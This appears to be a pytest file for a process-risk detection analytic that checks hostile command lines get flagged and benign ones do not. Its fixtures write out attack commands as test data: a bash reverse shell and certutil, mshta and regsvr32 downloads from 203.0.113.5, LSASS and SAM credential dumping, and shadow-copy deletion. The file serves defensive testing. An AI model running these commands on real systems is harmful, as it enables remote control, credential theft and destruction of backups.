"""Risk of processes: what must be found, and what must not."""

from __future__ import annotations

import base64
import math
import re
from pathlib import Path
from typing import Any

import pytest

from kestrel import Session
from kestrel.analytics import Outcome, find
from kestrel.analytics.risk import combined, rules
from kestrel.errors import KestrelError
from kestrel.result import Table
from tests.analytics.variables import Given, table

SYSTEM = "C:\\Windows\\System32\\"


def process(path: str = "", line: str = "", parent: str | None = None, **more: Any) -> dict[str, Any]:
    name = path.replace("/", "\\").rpartition("\\")[2]
    return {"id": f"process--{path}{line}", "name": name, "binary_ref.x_path": path, "command_line": line or None, "parent_ref.name": parent} | more


def judge(*rows: dict[str, Any], scratch: Path = Path()) -> Outcome:
    return find("risk").run([Given(list(rows))], {}, scratch)


def reasons(row: dict[str, Any]) -> str:
    return " ".join(table(judge(row))[0]["x_risk_reasons"] or [])


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"

BAD = [
    (process(POWERSHELL, f"powershell -nop -w hidden -enc {encoded('Get-Date; Get-Date')}"), ["T1059.001", "T1564.003"]),
    (process(POWERSHELL, f"powershell -e {encoded('IEX (New-Object Net.WebClient).DownloadString(1)')}"), ["T1105"]),
    (process("C:\\Users\\a\\svchost.exe", "svchost.exe"), ["T1036.005"]),
    (process("\\Device\\HarddiskVolume3\\Temp\\lsass.exe"), ["T1036.005"]),
    (process("C:\\Windows\\svch0st.exe"), ["looks like `svchost.exe`"]),
    (process("C:\\Windows\\scvhost.exe"), ["looks like `svchost.exe`"]),
    (process("C:\\Windows\\rundll3.exe"), ["looks like `rundll32.exe`"]),
    (process("C:\\x\\ls\u0430ss.exe"), ["looks like `lsass.exe`"]),
    (process(SYSTEM + "svchost.exe", parent="explorer.exe"), ["T1055.012"]),
    (process("C:\\Tools\\notes.exe", **{"binary_ref.x_software_ref.name": "PowerShell.EXE"}), ["renamed `powershell.exe`"]),
    (process(SYSTEM + "cmd.exe", "cmd /c x", "WINWORD.EXE"), ["T1204.002"]),
    (process(SYSTEM + "cmd.exe", "cmd /c whoami", "w3wp.exe"), ["T1505.003"]),
    (process(SYSTEM + "cmd.exe", "cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16 2>&1", "wmiprvse.exe"), ["T1047", "T1021.002"]),
    (process(SYSTEM + "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\a.dmp full"), ["T1003.001"]),
    (process(SYSTEM + "rundll32.exe", "rundll32 comsvcs.dll,#24 624 C:\\a.dmp full"), ["T1003.001"]),
    (process("C:\\t\\procdump64.exe", "procdump64 -ma lsass.exe out"), ["T1003.001"]),
    (process(SYSTEM + "reg.exe", "reg save HKLM\\SAM C:\\sam.hiv"), ["T1003.002"]),
    (process(SYSTEM + "certutil.exe", "certutil -urlcache -f http://203.0.113.5/a a.exe"), ["T1105"]),
    (process(SYSTEM + "mshta.exe", "mshta http://203.0.113.5/a.hta"), ["T1218.005"]),
    (process(SYSTEM + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll"), ["T1218.010"]),
    (process(SYSTEM + "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"), ["T1490"]),
    (process("C:\\Users\\a\\Downloads\\invoice.pdf.exe"), ["T1036.007", "T1204.002"]),
    (process("C:\\Users\\a\\gpj\u202eexe.scr"), ["T1036.002"]),
    (process("C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"), ["T1204.002"]),
    (process("C:\\Program Files\\x.exe", "x.exe " + "a" * 2000), ["very long"]),
    (process("/tmp/.x/a", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"), ["T1059.004", "T1204.002"]),
]


@pytest.mark.parametrize(("row", "parts"), BAD, ids=lambda v: "" if isinstance(v, list) else v["id"][:60])
def test_what_must_be_found(row: dict[str, Any], parts: list[str]) -> None:
    for part in parts:
        assert part in reasons(row)


GOOD = [
    process(SYSTEM + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "services.exe"),
    process("C:\\WINDOWS\\SysWOW64\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "explorer.exe"),
    process("\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "", "wininit.exe"),
    process("\\SystemRoot\\System32\\smss.exe", "", "System"),
    process("\\??\\C:\\Windows\\system32\\conhost.exe", "", "cmd.exe"),
    process("C:\\Windows\\WinSxS\\amd64_x\\explorer.exe", "", "TiWorker.exe"),
    process("C:\\Program Files\\Internet Explorer\\iexplore.exe", "", "explorer.exe"),
    process(SYSTEM + "taskhostw.exe", "taskhostw.exe", "svchost.exe"),
    process(POWERSHELL, "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Scripts\\a.ps1", "explorer.exe"),
    process("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe " + "--x=" * 1000, "chrome.exe"),
    process("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe", "", "services.exe"),
    process("C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "", "explorer.exe"),
    process(SYSTEM + "reg.exe", 'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Control" a.txt /y', "explorer.exe"),
    process("/usr/bin/bash", "bash -c 'ls /tmp'", "sshd"),
    {"id": "process--bare"},
    {"id": "process--odd", "name": None, "command_line": ["a", None], "binary_ref.x_path": float("nan")},
]


@pytest.mark.parametrize("row", GOOD, ids=lambda v: v["id"][:60])
def test_what_must_not_be_found(row: dict[str, Any]) -> None:
    (judged,) = table(judge(row))
    assert judged == {"id": row["id"], "x_risk_score": 0, "x_risk_reasons": None}


def test_points_add_up_as_independent_chances() -> None:
    assert [combined(p) for p in ([], [50], [50, 50], [10, 20, 30], [100, 1])] == [0, 50, 75, round(100 - 90 * 0.8 * 0.7), 100]
    (judged,) = table(judge(BAD[0][0]))
    points = [int(m[1]) for r in judged["x_risk_reasons"] if (m := re.search(r"(\d+)\)$", r))]
    assert judged["x_risk_score"] == round(100 - 100 * math.prod(1 - p / 100 for p in points))
    assert points == sorted(points, reverse=True)


def test_the_only_child_of_its_name_is_rare() -> None:
    many = [process("C:\\app\\worker.exe", f"worker {n}", "app.exe") for n in range(12)]
    found = table(judge(*many, process("C:\\app\\other.exe", "", "app.exe")))
    assert found[-1]["x_risk_reasons"] == ["`other.exe` is rare: the only one among 13 children of `app.exe` (10)"]
    assert all(not row["x_risk_score"] for row in found[:-1])
    varied = [process(f"C:\\app\\p{n}.exe", "", "app.exe") for n in range(13)]
    assert all(not row["x_risk_score"] for row in table(judge(*varied)))


def test_the_highest_are_shown_first() -> None:
    (shown,) = judge(*GOOD[:5], *(row for row, _ in BAD)).displays
    assert isinstance(shown, Table) and shown.total == len(BAD)
    scores = [row[0] for row in shown.rows]
    assert scores == sorted(scores, reverse=True) and len(scores) == 20


def test_every_rule_can_be_explained() -> None:
    technique = re.compile(r"T\d{4}(\.\d{3})?")
    for rule in rules():
        assert 1 <= rule.reason.points <= 100 and rule.when.names + rule.when.expressions + rule.some
        assert rule.reason.technique and technique.fullmatch(rule.reason.technique)


@pytest.mark.parametrize(
    "piece",
    [
        "a^", " -e ", " -enc aaaa", "iex ", "'+'", "%a:~1,1%", "\\temp\\", "set a=", "schtasks /create ", "findstr ", "reg add ", "/i:", "http://a",
        "curl ", "net user ", "> \\\\a", "lsass", " ", "-", "'", "\\", "a" * 200 + " ", "comsvcs.dll ", "/format:", "sc create ", "a`", "bash ", "|",
    ],
)  # fmt: skip
def test_hostile_command_lines_are_judged(piece: str) -> None:
    """Every expression is tried on what could make it slow: 32,000 signs that almost match; steps in the square of them would not end."""
    line = piece * (32_000 // len(piece))
    for rule in rules():
        for conditions in (rule.when, *rule.some, rule.unless):
            for _, expressions in conditions.expressions:
                for expression in expressions:
                    expression.search(line)
    judge(process(POWERSHELL, line))


def test_only_processes() -> None:
    with pytest.raises(KestrelError) as caught:
        find("risk").run([Given([{"id": "a"}], "file")], {}, Path())
    assert caught.value.code == "K0507" and "works on process, not on file" in caught.value.message
    with pytest.raises(KestrelError) as caught:
        find("risk").run([Given()], {"limit": 1}, Path())
    assert caught.value.code == "K0508"


@pytest.mark.parametrize(
    ("log", "name", "line", "technique"),
    [
        ("psh_lsass_memory_dump_comsvcs_2020-10-18T19500924", "rundll32.exe", "MiniDump", "T1003.001"),
        ("cmd_mshta_vbscript_execute_psh_2020-10-2202580804", "mshta.exe", "vbscript:", "T1218.005"),
        ("covenant_lolbin_wuauclt_createremotethread_2020-10-12183248", "wuauclt.exe", "UpdateDeploymentProvider", "T1218"),
        ("proxylogon_ssrf_rce_poc_2021-03-14T01401970", "cmd.exe", "whoami", "T1505.003"),
        ("empire_wmi_dcerpc_wmi_IWbemServices_ExecMethod_2020-09-21001437", "powershell.exe", "-enc", "T1047"),
    ],
)
def test_real_attacks_come_first(log: str, name: str, line: str, technique: str, session: Session, shared: Path) -> None:
    """What each simulation did (its name and MANIFEST.md say so) stands on top; `MsMpEng` and other work of the host does not."""
    session.run(f"p = GET process FROM '{shared / 'windows-flat' / log}.ndjson.gz' WHERE pid > 0")
    found = find("risk").run([Given(session["p"].to_dicts())], {}, Path())
    (shown,) = found.displays
    assert isinstance(shown, Table)
    highest = [row for row in shown.rows if row[0] == shown.rows[0][0] >= 40]
    assert any(top.lower() == name and line in command and technique in str(why) for _, top, command, why, _ in highest)
    assert sum(row["x_risk_score"] >= 40 for row in table(found)) <= 4


def test_an_explanation_says_what_each_rule_gives_and_what_was_not_found() -> None:
    one = Given([{"id": "process--1", "name": "SharpDump.exe", "command_line": '"C:\\Program Files\\SharpDump.exe"'}], "process")
    (row,) = table(find("risk").run([one], {}, Path()))
    assert row["x_risk_score"] == 30 and row["x_risk_reasons"] == ["a tool that dumps the memory of processes (T1003.001, 30)"]
    assert row["x_risk_explanation"].startswith("all 30 points come from one rule; not found: ")
    assert "the memory of LSASS is dumped (T1003.001, 75)" in row["x_risk_explanation"]
    two = Given([{"id": "process--2", "name": "sharpdump.exe", "command_line": "sharpdump.exe lsass.dmp"}], "process")
    (row,) = table(find("risk").run([two], {}, Path()))
    assert row["x_risk_score"] == round(100 * (1 - 0.25 * 0.7))
    assert "100 * (1 - 0.25 * 0.70) = 82" in row["x_risk_explanation"]


def test_where_no_rule_holds_there_is_nothing_to_explain() -> None:
    (row,) = table(find("risk").run([Given([{"id": "process--3", "name": "notepad.exe", "command_line": "notepad"}], "process")], {}, Path()))
    assert row["x_risk_score"] == 0 and "x_risk_explanation" not in row
